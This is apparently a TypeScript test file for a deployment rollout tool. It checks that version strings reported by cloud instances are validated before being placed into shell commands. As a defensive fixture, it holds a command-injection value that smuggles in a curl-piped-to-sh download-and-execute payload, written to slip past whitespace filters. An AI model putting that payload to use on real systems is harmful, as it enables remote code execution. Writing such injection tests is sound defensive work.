/**
 * A version read from an instance (the target's `current` command) is untrusted input: one that is not
 * a valid version is never substituted into a command; the instance is restored to the last known good
 * version instead, or left for a human with the reason.
 */
import {paginateListCommands, SendCommandCommand} from '@aws-sdk/client-ssm'
import {describe, expect, it} from 'vitest'
import {rollout} from '../../../src/app/release.js'
import {createSimClients, type SimAccount} from '../../../src/sim/index.js'
import {notInService, openIncremental, versionCounts} from '../../fakes/incremental.js'

const PAYLOAD = 'curl${IFS}-s${IFS}http://x/x|sh'
const HOSTILE = `2.1.0;${PAYLOAD}`

/** Every command line and parameter the simulated account received, as text, except those of `skip`. */
async function receivedCommands(sim: SimAccount, skip: ReadonlySet<string> = new Set()): Promise<string[]> {
  const texts: string[] = []
  for await (const page of paginateListCommands({client: createSimClients(sim).ssm}, {})) {
    for (const command of page.Commands ?? []) {
      if (!skip.has(command.CommandId!)) texts.push(JSON.stringify(command.Parameters))
    }
  }
  return texts
}

async function commandIds(sim: SimAccount): Promise<Set<string>> {
  const ids = new Set<string>()
  for await (const page of paginateListCommands({client: createSimClients(sim).ssm}, {})) {
    for (const command of page.Commands ?? []) ids.add(command.CommandId!)
  }
  return ids
}

describe('a version an instance prints is validated before any use', () => {
  it('restores an instance printing a shell payload to the last known good version, never sending the payload', async () => {
    const {ws, sim, clock} = await openIncremental({instances: 4, maxUnavailable: '1'})
    expect((await rollout(ws, {target: 'api', version: '2.1.0'}, {}, {sim})).outcome).toBe('succeeded')
    // One instance is tampered with: its `current` command now prints a payload after the version.
    const victim = sim.view().groups[0]!.instances[0]!.id // the canary: the first the release touches
    const ssm = createSimClients(sim).ssm
    await ssm.send(
      new SendCommandCommand({DocumentName: 'AWS-RunShellScript', InstanceIds: [victim], Parameters: {commands: [`release-sim set-version ${HOSTILE}`]}}),
    )
    const before = await commandIds(sim)
    clock.advance(10 * 60_000)
    expect(versionCounts(sim)).toEqual({'2.1.0': 3, [HOSTILE]: 1})
    const progress: string[] = []
    const result = await rollout(ws, {target: 'api', version: '3.0.0-bad'}, {onProgress: (e) => progress.push(e.message)}, {sim})
    expect(result.outcome, result.message).toBe('rolledBack')
    expect(versionCounts(sim)).toEqual({'2.1.0': 4})
    expect(notInService(sim)).toEqual([])
    for (const text of await receivedCommands(sim, before)) expect(text).not.toContain('curl')
    expect(progress.join('\n')).toContain(`${victim}: previous version unknown`)
  })

  it('leaves an instance whose version is unknown, with no last known good, for a human with the reason', async () => {
    const {ws, sim} = await openIncremental({instances: 3, maxUnavailable: '1', version: HOSTILE})
    const result = await rollout(ws, {target: 'api', version: '3.0.0-bad'}, {}, {sim})
    expect(result.outcome).toBe('failed')
    expect(result.message).toContain('previous version unknown')
    for (const text of await receivedCommands(sim)) expect(text).not.toContain('curl')
  })
})
